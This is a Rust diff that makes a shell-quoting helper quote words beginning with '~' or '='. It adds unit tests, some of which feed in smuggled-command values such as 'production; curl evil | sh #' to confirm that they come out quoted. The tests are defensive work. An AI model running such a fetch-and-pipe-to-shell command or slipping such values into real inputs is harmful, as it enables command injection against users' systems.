@@ -118,10 +118,13 @@ pub fn ago(now: i64, then: i64) -> String {
     format!("{count} {unit}{plural} ago")
 }
 
-/// A word of a command that somebody may copy into a shell: quoted unless it is plain.
+/// A word of a command that somebody may copy into a shell: quoted unless it is plain. Every word that was not written by
+/// us goes through here on its way into a hint, whatever was checked of it before.
 pub fn shell_word(word: &str) -> String {
     let plain = |c: char| c.is_ascii_alphanumeric() || "._~:/@%+=,-".contains(c);
-    if !word.is_empty() && word.chars().all(plain) {
+    // A shell makes something else of these where a word begins.
+    let begins_plain = !word.is_empty() && !word.starts_with(['~', '=']);
+    if begins_plain && word.chars().all(plain) {
         word.to_owned()
     } else if word.chars().any(acts) {
         // On one line, and so that nothing acts on the terminal that it is copied from.
@@ -183,6 +186,9 @@ mod tests {
         assert_eq!(shell_word("/tmp/$(touch x)'y"), "'/tmp/$(touch x)'\\''y'");
         assert_eq!(shell_word(""), "''");
         assert_eq!(shell_word("- It's\n- new\\\u{202e}\u{1b}"), "$'- It\\'s\\n- new\\\\\\u202e\\x1b'");
+        assert_eq!(shell_word("production; curl evil | sh #"), "'production; curl evil | sh #'");
+        assert_eq!((shell_word("~root").as_str(), shell_word("=ls").as_str()), ("'~root'", "'=ls'"));
+        assert_eq!((shell_word("a~1").as_str(), shell_word("--a=b").as_str()), ("a~1", "--a=b"));
     }
 
     #[test]
